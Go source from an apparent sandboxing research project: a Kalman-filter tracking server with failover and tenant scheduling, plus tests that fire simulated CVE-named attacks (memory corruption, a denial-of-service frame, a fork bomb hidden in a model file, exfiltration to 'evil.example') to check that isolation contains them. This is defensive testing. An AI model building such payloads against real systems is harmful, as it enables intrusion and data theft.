	sessions := make([]*core.Session, len(streams))
	for i := range streams {
		sessions[i] = srv.Ex.Session()
		id := sessions[i].Shard().ID
		byShard[id] = append(byShard[id], i)
	}
	results := make([]TrackResult, len(streams))
	var wg sync.WaitGroup
	for _, queue := range byShard {
		wg.Add(1)
		go func(queue []int) {
			defer wg.Done()
			for _, i := range queue {
				results[i] = TrackResult{User: streams[i].User}
				results[i].Err = srv.initSession(sessions[i], streams[i])
			}
			steps := 0
			for _, i := range queue {
				if len(streams[i].Points) > steps {
					steps = len(streams[i].Points)
				}
			}
			for step := 0; step < steps; step++ {
				for _, i := range queue {
					if results[i].Err != nil || step >= len(streams[i].Points) {
						continue
					}
					results[i].Err = srv.serveStep(sessions[i], streams[i], step, &results[i])
				}
			}
		}(queue)
	}
	wg.Wait()
	return results
}

// initSession creates the session's state tensor and seeds it with the
// stream's start position. The seeding correct() is a stateful call, so
// the state is in the portable checkpoint log before the first measurement
// — a session can fail over at any step, including step 0.
func (srv *TrackingServer) initSession(s *core.Session, st TrackStream) error {
	return s.Do(func(sh *core.Shard) error {
		h, _, err := sh.Ex.Call("torch.tensor", framework.Int64(4), framework.Float64(0))
		if err != nil {
			return restartAfter(sh, err)
		}
		if len(h) == 0 {
			return fmt.Errorf("apps: tensor call returned no handle")
		}
		if _, _, err := sh.Ex.Call("cv.KalmanFilter.correct",
			h[0].Value(), framework.Float64(st.Start.X), framework.Float64(st.Start.Y)); err != nil {
			return restartAfter(sh, err)
		}
		s.Bind(trackerBinding, h[0])
		return nil
	})
}

// serveStep folds one measurement into the session's filter with a single
// correct() call. One stateful call per invocation is deliberate: the
// checkpoint log advances per successful call, and failover re-runs whole
// invocations, so keeping the two granularities equal gives exactly-once
// state mutation — a re-run invocation starts from the state the failed
// attempt started from. The bound handle is re-read inside the job because
// a failover (between steps or mid-job) rebinds it to the state
// materialized on the replacement shard.
func (srv *TrackingServer) serveStep(s *core.Session, st TrackStream, step int, res *TrackResult) error {
	p := st.Points[step]
	return s.DoAt(st.Arrivals[step], func(sh *core.Shard) error {
		h, ok := s.Bound(trackerBinding)
		if !ok {
			return fmt.Errorf("apps: session %d has no bound tracker state", s.ID)
		}
		_, plain, err := sh.Ex.Call("cv.KalmanFilter.correct",
			h.Value(), framework.Float64(p.X), framework.Float64(p.Y))
		if err != nil {
			return restartAfter(sh, err)
		}
		if len(plain) >= 2 {
			res.X, res.Y = plain[0].Float, plain[1].Float
		}
		res.Steps++
		return nil
	})
}

// restartAfter revives any crashed agents on the shard (availability
// first, §4.4.2) and passes the original error through.
func restartAfter(sh *core.Shard, err error) error {
	if sh.Rt != nil {
		_ = sh.Rt.RestartDead()
	}
	return err
}
