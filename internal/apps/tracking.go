package apps

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/vclock"
)

// trackerBinding names the session-bound Kalman state tensor in the
// executor's durable-handle registry — the thing failover migrates.
const trackerBinding = "kalman-state"

// TrackPoint is one measurement in a tracking stream.
type TrackPoint struct {
	X, Y float64
}

// TrackStream is one client's measurement stream. Tracking is the stateful
// serving workload: every step folds into a Kalman state tensor held on
// the session's shard, so a result depends on every measurement before it
// — exactly the state that must survive shard failover.
type TrackStream struct {
	// User identifies the client.
	User int
	// Start seeds the filter state with the first known position.
	Start TrackPoint
	// Points are the measurements, one per step.
	Points []TrackPoint
	// Arrivals stamps each step's arrival on the virtual timeline.
	Arrivals []vclock.Duration
	// Offset is the wave the stream joins the ramp harness at (ServeRamp);
	// zero means present from the start. ServeStreams ignores it.
	Offset int
	// Tenant and Weight carry the stream's multi-tenant identity into its
	// session (core.Executor.SessionFor). Both zero — the legacy value —
	// opens the single-tenant default session, keeping pre-overload runs
	// bit-identical.
	Tenant int
	Weight int
}

// trackStepGap spaces measurement arrivals within one stream.
const trackStepGap = 80 * time.Microsecond

// genTrackStream builds one deterministic stream: positions follow
// per-user linear motion with a small deterministic wobble, arrivals are
// uniformly spaced starting at the stream's join wave.
func genTrackStream(seed int64, u, steps, offset int) TrackStream {
	st := TrackStream{
		User:     u + 1,
		Start:    TrackPoint{X: float64((int(seed)+u*13)%40) + 5, Y: float64((int(seed)+u*29)%40) + 5},
		Points:   make([]TrackPoint, steps),
		Arrivals: make([]vclock.Duration, steps),
		Offset:   offset,
	}
	vx, vy := float64(u%3)+1, float64(u%5)-2
	for i := 0; i < steps; i++ {
		wobble := float64((u*31+i*17)%7) - 3
		st.Points[i] = TrackPoint{
			X: st.Start.X + vx*float64(i+1) + wobble/2,
			Y: st.Start.Y + vy*float64(i+1) - wobble/3,
		}
		st.Arrivals[i] = vclock.Duration(offset+i+1) * trackStepGap
	}
	return st
}

// GenTrackStreams produces n deterministic measurement streams of the
// given length. Same inputs, same streams — byte for byte.
func GenTrackStreams(seed int64, n, steps int) []TrackStream {
	out := make([]TrackStream, n)
	for u := range out {
		out[u] = genTrackStream(seed, u, steps, 0)
	}
	return out
}

// rampSpread is the wave gap between successive burst joins — about half
// a shard boot (~16 waves), so the ramp climbs at a rate a scaling pool
// can stay ahead of. A ramp faster than boot is unservable by any
// autoscaler; it needs pre-provisioned capacity, which is what the fixed
// n=max comparison row models.
const rampSpread = 8

// GenRampStreams produces the autoscaling drill's load shape: base streams
// run the full length, then burst streams join mid-run — staggered one
// every rampSpread waves — live for a quarter of the run, and leave.
// Joins outpace departures on the way up (sessions accumulate to a
// plateau) and reverse on the way down, so one run exercises both scale
// directions with a drain-out window at the end for the pool to shrink
// through. Deterministic in (seed, base, burst, steps).
func GenRampStreams(seed int64, base, burst, steps int) []TrackStream {
	out := make([]TrackStream, 0, base+burst)
	for u := 0; u < base; u++ {
		out = append(out, genTrackStream(seed, u, steps, 0))
	}
	joinAt := steps / 8
	blen := steps / 4
	if blen < 4 {
		blen = 4
	}
	for j := 0; j < burst; j++ {
		offset := joinAt + j*rampSpread
		if offset+blen > steps {
			offset = steps - blen
		}
		out = append(out, genTrackStream(seed, base+j, blen, offset))
	}
	return out
}

// GenTenantStreams builds the overload drill's two-tenant load shape:
// heavy streams belong to tenant 1 and light streams to tenant 2, both
// weight 1 (equal fair-share entitlement — the skew is in offered load,
// not in weights). Streams interleave in open order so placement spreads
// both tenants across shards, every stream is present from wave 0, and
// arrivals are spaced gap apart with a per-stream stagger inside the gap
// so no two invocations share an arrival stamp, all offset by warm — the
// caller's allowance for session-init service, so a 1× run starts level
// with the shard clocks instead of already backlogged. Deterministic in
// every argument.
func GenTenantStreams(seed int64, heavy, light, steps int, gap, warm vclock.Duration) []TrackStream {
	total := heavy + light
	out := make([]TrackStream, 0, total)
	for u := 0; u < total; u++ {
		st := genTrackStream(seed, u, steps, 0)
		// Even interleave: exactly `light` streams, spread across the open
		// order, go to the light tenant.
		if total > 0 && (u*light)/total != ((u+1)*light)/total {
			st.Tenant, st.Weight = 2, 1
		} else {
			st.Tenant, st.Weight = 1, 1
		}
		stagger := gap * vclock.Duration(u) / vclock.Duration(total)
		for i := range st.Arrivals {
			st.Arrivals[i] = warm + gap*vclock.Duration(i+1) + stagger
		}
		out = append(out, st)
	}
	return out
}

// TrackResult is the final filtered position of one stream.
type TrackResult struct {
	// User echoes the client.
	User int
	// Steps counts measurements successfully folded in.
	Steps int
	// Dropped counts measurements shed by overload control (rejected at
	// the admission bound, or expired past deadline) on runs that tolerate
	// shedding — the filter state never saw these points.
	Dropped int
	// X, Y is the filter's final position estimate — a function of the
	// whole stream, so identical results across a failover prove the
	// migrated state was exact.
	X, Y float64
	// Err is the first error that stopped the stream, if any.
	Err error
}

// TrackingServer is the stateful serving workload: per-session Kalman
// filters whose state tensors live in agent memory on the session's shard
// and are checkpointed through the executor's portable log on every
// stateful call. No per-shard artifacts, so it needs no OnReplace hook;
// replacement shards receive state purely through session migration.
type TrackingServer struct {
	// Ex is the serving pool.
	Ex *core.Executor
}

// ProvisionTracking builds the tracking service on an executor.
func ProvisionTracking(ex *core.Executor) *TrackingServer {
	return &TrackingServer{Ex: ex}
}

// ServeStreams runs every stream to completion and returns final filtered
// positions in stream order. Sessions open in stream order (deterministic
// round-robin placement); each shard serves its sessions on one goroutine,
// interleaving them step by step in session order, so per-shard admission
// order — and therefore every virtual timestamp — is deterministic.
func (srv *TrackingServer) ServeStreams(streams []TrackStream) []TrackResult {
	byShard := make([][]int, srv.Ex.Shards())
	sessions := make([]*core.Session, len(streams))
	for i := range streams {
		sessions[i] = srv.Ex.Session()
		id := sessions[i].Shard().ID
		byShard[id] = append(byShard[id], i)
	}
	results := make([]TrackResult, len(streams))
	var wg sync.WaitGroup
	for _, queue := range byShard {
		wg.Add(1)
		go func(queue []int) {
			defer wg.Done()
			for _, i := range queue {
				results[i] = TrackResult{User: streams[i].User}
				results[i].Err = srv.initSession(sessions[i], streams[i])
			}
			steps := 0
			for _, i := range queue {
				if len(streams[i].Points) > steps {
					steps = len(streams[i].Points)
				}
			}
			for step := 0; step < steps; step++ {
				for _, i := range queue {
					if results[i].Err != nil || step >= len(streams[i].Points) {
						continue
					}
					results[i].Err = srv.serveStep(sessions[i], streams[i], step, &results[i])
				}
			}
		}(queue)
	}
	wg.Wait()
	return results
}

// Ticker is the control-plane hook ServeRamp invokes at every wave
// barrier. sched.Controller implements it; taking the one-method interface
// here keeps apps free of a sched import (and the harness usable with no
// controller at all).
type Ticker interface{ Tick() }

// AdmissionBatcher coalesces one shard's wave queue into admission
// batches for core.Executor.DoBatch. sched.Batcher implements it.
type AdmissionBatcher interface {
	Split([]core.BatchEntry) [][]core.BatchEntry
}

// AdmissionOrderer reorders one shard slot's wave queue before admission —
// the dequeue-policy hook. Order returns a permutation of entry indices;
// sched.WFQ implements it with per-tenant virtual finish times. The slot
// id keys any per-slot state: each slot's queue drains on its own
// goroutine, so an orderer keyed by slot stays deterministic.
type AdmissionOrderer interface {
	Order(slot int, entries []core.BatchEntry) []int
}

// AdmissionObserver is the optional feedback half of an orderer: after a
// wave's queue is admitted, serveWave reports each entry's outcome (in
// served order) so service-charged policies — sched.WFQ advances a
// tenant's virtual finish clock only for requests actually served — can
// account capacity correctly. Shed entries consumed none.
type AdmissionObserver interface {
	Observe(slot int, entries []core.BatchEntry, errs []error)
}

// RampOptions configures ServeRampOpts. The zero value reproduces
// ServeRamp(streams, nil, nil) exactly.
type RampOptions struct {
	// Ticker runs at every wave barrier (the control plane).
	Ticker Ticker
	// Batcher coalesces each slot's wave queue into admission batches.
	Batcher AdmissionBatcher
	// Orderer permutes each slot's wave queue before admission (WFQ).
	Orderer AdmissionOrderer
	// TolerateShed keeps a stream alive through overload sheds: a step
	// rejected with core.ErrOverloaded or dropped with
	// core.ErrDeadlineExceeded counts in TrackResult.Dropped and the
	// stream carries on, instead of the error aborting the stream.
	TolerateShed bool
}

// ServeRamp runs streams wave by wave: wave w serves step w−Offset of
// every stream active at w, with a full barrier between waves. Sessions
// open lazily at their stream's join wave (in stream order, so placement
// is deterministic), finished streams release their sessions via Finish,
// and ctl.Tick — when a controller is attached — runs at each barrier,
// where no invocation is in flight and pool state is a pure function of
// the work done. Within a wave each shard slot drains its queue on its own
// goroutine in stream order; a batcher coalesces that queue through
// DoBatch. The slot-per-goroutine invariant survives chaos: failover
// replaces a shard in its own slot, and control-plane migrations happen
// only at barriers, so no two goroutines ever contend for one shard's
// clock mid-wave — which is what keeps the controller's barrier reads, and
// its event log, byte-reproducible.
func (srv *TrackingServer) ServeRamp(streams []TrackStream, ctl Ticker, batcher AdmissionBatcher) []TrackResult {
	return srv.ServeRampOpts(streams, RampOptions{Ticker: ctl, Batcher: batcher})
}

// ServeRampOpts is ServeRamp with the full option set: admission ordering
// (WFQ) and shed tolerance for overload runs. Zero options reproduce the
// plain ramp bit for bit.
func (srv *TrackingServer) ServeRampOpts(streams []TrackStream, opt RampOptions) []TrackResult {
	results := make([]TrackResult, len(streams))
	sessions := make([]*core.Session, len(streams))
	waves := 0
	for i := range streams {
		if end := streams[i].Offset + len(streams[i].Points); end > waves {
			waves = end
		}
	}
	for w := 0; w < waves; w++ {
		// Open sessions joining at this wave, in stream order.
		for i := range streams {
			if streams[i].Offset != w || sessions[i] != nil {
				continue
			}
			sessions[i] = srv.openSession(streams[i])
			results[i] = TrackResult{User: streams[i].User}
			if results[i].Err = srv.initSession(sessions[i], streams[i]); results[i].Err != nil {
				sessions[i].Finish()
			}
		}
		// Queue this wave's steps per shard slot, in stream order.
		byShard := make(map[int][]int)
		var order []int
		for i := range streams {
			step := w - streams[i].Offset
			if step < 0 || step >= len(streams[i].Points) || results[i].Err != nil {
				continue
			}
			id := sessions[i].Shard().ID
			if _, ok := byShard[id]; !ok {
				order = append(order, id)
			}
			byShard[id] = append(byShard[id], i)
		}
		var wg sync.WaitGroup
		for _, id := range order {
			queue := byShard[id]
			wg.Add(1)
			go func(id int, queue []int) {
				defer wg.Done()
				srv.serveWave(streams, sessions, results, queue, w, id, opt)
			}(id, queue)
		}
		wg.Wait()
		// Release sessions whose stream just finished or errored out, so
		// the control plane sees their shards as shrink/placement capacity.
		for i := range streams {
			if sessions[i] == nil || sessions[i].Done() {
				continue
			}
			if results[i].Err != nil || w-streams[i].Offset == len(streams[i].Points)-1 {
				sessions[i].Finish()
			}
		}
		if opt.Ticker != nil {
			opt.Ticker.Tick()
		}
	}
	return results
}

// serveWave drains one shard slot's queue for one wave: order (WFQ), then
// coalesce (batcher), then admit. Split returns consecutive subslices, so
// batch errors map back to queue positions with a running cursor — the
// orderer permutes queue and entries together before the cursor starts, so
// the contract holds under reordering too.
func (srv *TrackingServer) serveWave(streams []TrackStream, sessions []*core.Session, results []TrackResult, queue []int, w, slot int, opt RampOptions) {
	if opt.Batcher == nil && opt.Orderer == nil {
		for _, i := range queue {
			noteStep(&results[i], srv.serveStep(sessions[i], streams[i], w-streams[i].Offset, &results[i]), opt)
		}
		return
	}
	entries := make([]core.BatchEntry, len(queue))
	for k, i := range queue {
		step := w - streams[i].Offset
		entries[k] = core.BatchEntry{
			Session: sessions[i],
			Arrival: streams[i].Arrivals[step],
			Job:     srv.stepJob(sessions[i], streams[i], step, &results[i]),
		}
	}
	if opt.Orderer != nil {
		perm := opt.Orderer.Order(slot, entries)
		reEntries := make([]core.BatchEntry, len(entries))
		reQueue := make([]int, len(queue))
		for k, p := range perm {
			reEntries[k], reQueue[k] = entries[p], queue[p]
		}
		entries, queue = reEntries, reQueue
	}
	errs := make([]error, len(entries))
	if opt.Batcher == nil {
		for k, i := range queue {
			errs[k] = sessions[i].DoAt(entries[k].Arrival, entries[k].Job)
			noteStep(&results[i], errs[k], opt)
		}
	} else {
		pos := 0
		for _, batch := range opt.Batcher.Split(entries) {
			for k, err := range srv.Ex.DoBatch(batch) {
				errs[pos+k] = err
				noteStep(&results[queue[pos+k]], err, opt)
			}
			pos += len(batch)
		}
	}
	if obs, ok := opt.Orderer.(AdmissionObserver); ok {
		obs.Observe(slot, entries, errs)
	}
}

// noteStep folds one step's outcome into the stream's result. Shed steps —
// the admission layer's deliberate refusals — count as drops when the run
// tolerates shedding; everything else (including nil) lands in Err exactly
// as before.
func noteStep(res *TrackResult, err error, opt RampOptions) {
	if err != nil && opt.TolerateShed &&
		(errors.Is(err, core.ErrOverloaded) || errors.Is(err, core.ErrDeadlineExceeded)) {
		res.Dropped++
		return
	}
	res.Err = err
}

// openSession opens a stream's session under its tenant identity. The zero
// identity — every stream generator before multi-tenancy — takes the
// legacy single-tenant path.
func (srv *TrackingServer) openSession(st TrackStream) *core.Session {
	if st.Tenant != 0 || st.Weight != 0 {
		w := st.Weight
		if w < 1 {
			w = 1
		}
		return srv.Ex.SessionFor(st.Tenant, w)
	}
	return srv.Ex.Session()
}

// initSession creates the session's state tensor and seeds it with the
// stream's start position. The seeding correct() is a stateful call, so
// the state is in the portable checkpoint log before the first measurement
// — a session can fail over at any step, including step 0.
func (srv *TrackingServer) initSession(s *core.Session, st TrackStream) error {
	return s.Do(func(sh *core.Shard) error {
		h, _, err := sh.Ex.Call("torch.tensor", framework.Int64(4), framework.Float64(0))
		if err != nil {
			return restartAfter(sh, err)
		}
		if len(h) == 0 {
			return fmt.Errorf("apps: tensor call returned no handle")
		}
		if _, _, err := sh.Ex.Call("cv.KalmanFilter.correct",
			h[0].Value(), framework.Float64(st.Start.X), framework.Float64(st.Start.Y)); err != nil {
			return restartAfter(sh, err)
		}
		s.Bind(trackerBinding, h[0])
		return nil
	})
}

// serveStep folds one measurement into the session's filter with a single
// correct() call. One stateful call per invocation is deliberate: the
// checkpoint log advances per successful call, and failover re-runs whole
// invocations, so keeping the two granularities equal gives exactly-once
// state mutation — a re-run invocation starts from the state the failed
// attempt started from. The bound handle is re-read inside the job because
// a failover (between steps or mid-job) rebinds it to the state
// materialized on the replacement shard.
func (srv *TrackingServer) serveStep(s *core.Session, st TrackStream, step int, res *TrackResult) error {
	return s.DoAt(st.Arrivals[step], srv.stepJob(s, st, step, res))
}

// stepJob builds the invocation body of one measurement step, shared by
// the per-call path (serveStep) and the batched admission path (ServeRamp
// hands it to core.Executor.DoBatch inside a BatchEntry).
func (srv *TrackingServer) stepJob(s *core.Session, st TrackStream, step int, res *TrackResult) func(sh *core.Shard) error {
	p := st.Points[step]
	return func(sh *core.Shard) error {
		h, ok := s.Bound(trackerBinding)
		if !ok {
			return fmt.Errorf("apps: session %d has no bound tracker state", s.ID)
		}
		_, plain, err := sh.Ex.Call("cv.KalmanFilter.correct",
			h.Value(), framework.Float64(p.X), framework.Float64(p.Y))
		if err != nil {
			return restartAfter(sh, err)
		}
		if len(plain) >= 2 {
			res.X, res.Y = plain[0].Float, plain[1].Float
		}
		res.Steps++
		return nil
	}
}

// restartAfter revives any crashed agents on the shard (availability
// first, §4.4.2) and passes the original error through.
func restartAfter(sh *core.Shard, err error) error {
	if sh.Rt != nil {
		_ = sh.Rt.RestartDead()
	}
	return err
}
