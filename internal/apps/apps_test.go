package apps_test

import (
	"strings"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simtorch"
	"freepart.dev/freepart/internal/kernel"
)

// directEnv builds an unprotected environment for app a.
func directEnv(t *testing.T, a apps.App) *apps.Env {
	t.Helper()
	k := kernel.New()
	return apps.NewEnv(k, core.NewDirect(k, all.Registry()), a)
}

// protectedEnv builds a FreePart-protected environment for app a.
func protectedEnv(t *testing.T, a apps.App) *apps.Env {
	t.Helper()
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	rt, err := core.New(k, reg, cat, core.Default())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(rt.Close)
	return apps.NewEnv(k, rt, a)
}

func TestAll23AppsRunDirect(t *testing.T) {
	list := apps.All()
	if len(list) != 23 {
		t.Fatalf("%d apps, want 23", len(list))
	}
	for _, a := range list {
		a := a
		t.Run(a.Name, func(t *testing.T) {
			e := directEnv(t, a)
			if err := a.Run(e); err != nil {
				t.Fatalf("%s failed: %v", a.Name, err)
			}
			if len(e.Calls) == 0 {
				t.Fatal("app made no framework calls")
			}
		})
	}
}

func TestAll23AppsRunProtected(t *testing.T) {
	for _, a := range apps.All() {
		a := a
		t.Run(a.Name, func(t *testing.T) {
			e := protectedEnv(t, a)
			if err := a.Run(e); err != nil {
				t.Fatalf("%s failed under FreePart: %v", a.Name, err)
			}
			// No agent died and no false-positive denials occurred.
			for _, p := range e.K.Processes() {
				if !p.Alive() {
					t.Errorf("process %s died: %s", p.Name(), p.ExitReason())
				}
				if len(p.Denials()) != 0 {
					t.Errorf("false-positive syscall denial in %s: %v", p.Name(), p.Denials())
				}
			}
		})
	}
}

func TestAppsUsageShape(t *testing.T) {
	// Every app's call profile follows Table 6's shape: processing
	// dominates, loading present, most apps visualize or store.
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	for _, a := range apps.All() {
		e := directEnv(t, a)
		if err := a.Run(e); err != nil {
			t.Fatalf("%s: %v", a.Name, err)
		}
		usage := analysis.UsageByType(cat, e.Calls)
		dl := usage[framework.TypeLoading]
		dp := usage[framework.TypeProcessing]
		if dl.Total == 0 {
			t.Errorf("%s performs no loading", a.Name)
		}
		if dp.Total < dl.Total {
			t.Errorf("%s: processing (%d) should dominate loading (%d)", a.Name, dp.Total, dl.Total)
		}
		st := usage[framework.TypeStoring]
		viz := usage[framework.TypeVisualizing]
		if st.Total == 0 && viz.Total == 0 {
			t.Errorf("%s neither visualizes nor stores", a.Name)
		}
	}
}

func TestOMRGradingCorrectness(t *testing.T) {
	a, _ := apps.ByID(8)
	e := directEnv(t, a)
	omr, scores, err := apps.OMRGradeAll(e, 4)
	if err != nil {
		t.Fatal(err)
	}
	if len(scores) != 4 {
		t.Fatalf("scores = %v", scores)
	}
	// The grader recognizes each sheet's marks; a fully random sheet still
	// yields a deterministic score, and CSV rows accumulate.
	if len(omr.Results) != 4 {
		t.Fatalf("results = %v", omr.Results)
	}
	csv, err := e.K.FS.ReadFile(e.Dir + "/results.csv")
	if err != nil || len(strings.Split(strings.TrimSpace(string(csv)), "\n")) != 4 {
		t.Fatalf("csv = %q, %v", csv, err)
	}
}

func TestOMRGradingSameProtectedAndDirect(t *testing.T) {
	a, _ := apps.ByID(8)
	de := directEnv(t, a)
	_, direct, err := apps.OMRGradeAll(de, 3)
	if err != nil {
		t.Fatal(err)
	}
	pe := protectedEnv(t, a)
	_, protected, err := apps.OMRGradeAll(pe, 3)
	if err != nil {
		t.Fatal(err)
	}
	for i := range direct {
		if direct[i] != protected[i] {
			t.Fatalf("scores diverge: %v vs %v", direct, protected)
		}
	}
}

func TestOMRAttackUnprotected(t *testing.T) {
	// §3: without FreePart, the imread exploit corrupts the template.
	a, _ := apps.ByID(8)
	e := directEnv(t, a)
	omr, _, err := apps.OMRGradeAll(e, 1)
	if err != nil {
		t.Fatal(err)
	}
	log := &attack.Log{}
	d := e.Ex.(*core.Direct)
	d.Ctx.OnExploit = log.Handler()
	// Malicious student submission targeting the template coordinates.
	evil := attack.Corrupt("CVE-2017-12597", omr.Template.Base, []byte{0, 0, 0, 0, 0, 0, 0, 0})
	e.K.FS.WriteFile(e.Dir+"/evil.img", evil)
	space := d.Proc.Space()
	before, _ := space.Load(omr.Template.Base, 8)
	_, _, _ = e.Call("cv.imread", framework.Str(e.Dir+"/evil.img"))
	after, _ := space.Load(omr.Template.Base, 8)
	if string(before) == string(after) {
		t.Fatal("unprotected template should be corrupted")
	}
	if !log.Last().Corrupted {
		t.Fatalf("outcome = %+v", log.Last())
	}
}

func TestOMRAttackProtected(t *testing.T) {
	// With FreePart the same exploit fires inside the loading agent and
	// cannot reach the host-resident template.
	a, _ := apps.ByID(8)
	e := protectedEnv(t, a)
	omr, _, err := apps.OMRGradeAll(e, 1)
	if err != nil {
		t.Fatal(err)
	}
	log := &attack.Log{}
	e.Rt.OnExploit = log.Handler()
	evil := attack.Corrupt("CVE-2017-12597", omr.Template.Base, []byte{9, 9, 9, 9})
	e.K.FS.WriteFile(e.Dir+"/evil.img", evil)
	hostSpace := e.Rt.Host.Space()
	before, _ := hostSpace.Load(omr.Template.Base, 4)
	_, _, _ = e.Call("cv.imread", framework.Str(e.Dir+"/evil.img"))
	after, _ := hostSpace.Load(omr.Template.Base, 4)
	if string(before) != string(after) {
		t.Fatal("template must survive under FreePart")
	}
	if out := log.Last(); out == nil || !out.Fired {
		t.Fatal("exploit should have fired (in the agent)")
	} else if out.Corrupted && string(before) != string(after) {
		t.Fatal("corruption must not reach the host")
	}
	if !e.Rt.Host.Alive() {
		t.Fatal("host must survive")
	}
	// Grading continues after the agent restart.
	if _, scores, err := apps.OMRGradeAll(e, 1); err != nil || len(scores) != 1 {
		t.Fatalf("post-attack grading: %v %v", scores, err)
	}
}

func TestDroneDoSUnprotectedVsProtected(t *testing.T) {
	// §5.4.1: a DoS crafted frame crashes the whole unprotected drone but
	// only the loading agent under FreePart.
	drone := apps.DroneApp()

	de := directEnv(t, drone)
	dd, err := apps.NewDrone(de)
	if err != nil {
		t.Fatal(err)
	}
	de.K.FS.WriteFile(de.Inputs[0], attack.DoS("CVE-2017-14136"))
	_ = dd.Fly(de, 4)
	if de.Ex.(*core.Direct).Proc.Alive() {
		t.Fatal("unprotected drone process should crash")
	}

	pe := protectedEnv(t, drone)
	pd, err := apps.NewDrone(pe)
	if err != nil {
		t.Fatal(err)
	}
	pe.K.FS.WriteFile(pe.Inputs[0], attack.DoS("CVE-2017-14136"))
	if err := pd.Fly(pe, 4); err != nil {
		t.Fatal(err)
	}
	if !pe.Rt.Host.Alive() {
		t.Fatal("drone must keep flying under FreePart")
	}
	// It hovered through the crashed frame, then handled the others after
	// the loading agent restarted.
	if pd.FramesHandled == 0 {
		t.Fatal("drone should handle frames after the restart")
	}
	hovered := false
	for _, c := range pd.Commands {
		if c == "hover" {
			hovered = true
		}
	}
	if !hovered {
		t.Fatal("the poisoned frame should have produced a hover")
	}
}

func TestDroneSpeedCorruption(t *testing.T) {
	// §5.4.1 data corruption: flip self.speed to -0.3.
	drone := apps.DroneApp()

	de := directEnv(t, drone)
	dd, _ := apps.NewDrone(de)
	dlog := &attack.Log{}
	de.Ex.(*core.Direct).Ctx.OnExploit = dlog.Handler()
	de.K.FS.WriteFile(de.Inputs[1], attack.Corrupt("CVE-2017-12606", dd.SpeedRegion.Base, []byte{byte(0x100 - 30)}))
	_ = dd.Fly(de, 4)
	speed, _ := dd.Speed()
	if speed != -0.3 {
		t.Fatalf("unprotected speed = %v, want -0.3", speed)
	}

	pe := protectedEnv(t, drone)
	pd, _ := apps.NewDrone(pe)
	plog := &attack.Log{}
	pe.Rt.OnExploit = plog.Handler()
	pe.K.FS.WriteFile(pe.Inputs[1], attack.Corrupt("CVE-2017-12606", pd.SpeedRegion.Base, []byte{byte(0x100 - 30)}))
	if err := pd.Fly(pe, 4); err != nil {
		t.Fatal(err)
	}
	speed, _ = pd.Speed()
	if speed != 0.3 {
		t.Fatalf("protected speed = %v, want 0.3", speed)
	}
}

func TestViewerInfoLeak(t *testing.T) {
	// §5.4.2: exfiltrate the recent-files list. Unprotected it leaks;
	// under FreePart the loading agent can neither read the host list nor
	// send on the network.
	viewer := apps.ViewerApp()

	de := directEnv(t, viewer)
	dv, _ := apps.NewViewer(de)
	for _, p := range de.Inputs[:2] {
		if err := dv.Open(de, p); err != nil {
			t.Fatal(err)
		}
	}
	log := &attack.Log{}
	de.Ex.(*core.Direct).Ctx.OnExploit = log.Handler()
	de.K.FS.WriteFile(de.Dir+"/evil.img",
		attack.Exfiltrate("CVE-2020-10378", dv.RecentRegion.Base, 16, "evil.example"))
	_, _, _ = de.Call("cv.imread", framework.Str(de.Dir+"/evil.img"))
	if len(de.K.Net.SentTo("evil.example")) == 0 {
		t.Fatal("unprotected viewer should leak")
	}

	pe := protectedEnv(t, viewer)
	pv, _ := apps.NewViewer(pe)
	for _, p := range pe.Inputs[:2] {
		if err := pv.Open(pe, p); err != nil {
			t.Fatal(err)
		}
	}
	plog := &attack.Log{}
	pe.Rt.OnExploit = plog.Handler()
	pe.K.FS.WriteFile(pe.Dir+"/evil.img",
		attack.Exfiltrate("CVE-2020-10378", pv.RecentRegion.Base, 16, "evil.example"))
	_, _, _ = pe.Call("cv.imread", framework.Str(pe.Dir+"/evil.img"))
	if len(pe.K.Net.SentTo("evil.example")) != 0 {
		t.Fatal("FreePart must block the leak")
	}
	if out := plog.Last(); out != nil && string(out.Leaked) == recentPrefix(pv) {
		t.Fatal("the host recent list must not be readable from the agent")
	}
}

// recentPrefix returns the first 16 bytes of the viewer's recent list.
func recentPrefix(v *apps.Viewer) string {
	s, _ := v.Recent()
	if len(s) > 16 {
		s = s[:16]
	}
	return s
}

func TestStegoNetForkBombBlocked(t *testing.T) {
	// §A.7: the trojaned model's fork payload is contained by the
	// processing agent's filter.
	med := apps.CaseApp(103, "ct-analyzer", nil)

	pe := protectedEnv(t, med)
	m, err := apps.NewMedicalApp(pe, "patient: Jane Doe, 54, +1-555-0199")
	if err != nil {
		t.Fatal(err)
	}
	log := &attack.Log{}
	pe.Rt.OnExploit = log.Handler()
	clean := simtorch.EncodeModel([][]float64{{1, 0}})
	trojan := append(clean, attack.ForkBomb(simtorch.CVEStegoNet)...)
	pe.K.FS.WriteFile(pe.Dir+"/trojan.pt", trojan)
	err = m.Analyze(pe, pe.Inputs[0], pe.Dir+"/trojan.pt")
	if err == nil {
		t.Fatal("trojan forward should fail")
	}
	if log.Last() == nil || log.Last().Forked {
		t.Fatalf("fork must be denied: %+v", log.Last())
	}
	// Patient record untouched and unread.
	rec, rerr := pe.Rt.Host.Space().Load(m.PatientRegion.Base, 8)
	if rerr != nil || string(rec) != "patient:" {
		t.Fatalf("patient record = %q, %v", rec, rerr)
	}
	if !pe.Rt.Host.Alive() {
		t.Fatal("host must survive the fork bomb")
	}
}

func TestInvoiceAppRuns(t *testing.T) {
	inv := apps.CaseApp(104, "invoice-ocr", nil)
	pe := protectedEnv(t, inv)
	a, err := apps.NewInvoiceApp(pe, "taxpayer: 123-45-6789, acct 98765")
	if err != nil {
		t.Fatal(err)
	}
	if err := a.Process(pe, pe.Inputs[0], pe.Dir+"/model.pt"); err != nil {
		t.Fatal(err)
	}
	if a.Processed != 1 {
		t.Fatal("invoice not processed")
	}
}

func TestByID(t *testing.T) {
	if a, ok := apps.ByID(8); !ok || a.Name != "OMRChecker" {
		t.Fatalf("ByID(8) = %v, %v", a.Name, ok)
	}
	if _, ok := apps.ByID(99); ok {
		t.Fatal("ByID(99) should fail")
	}
}
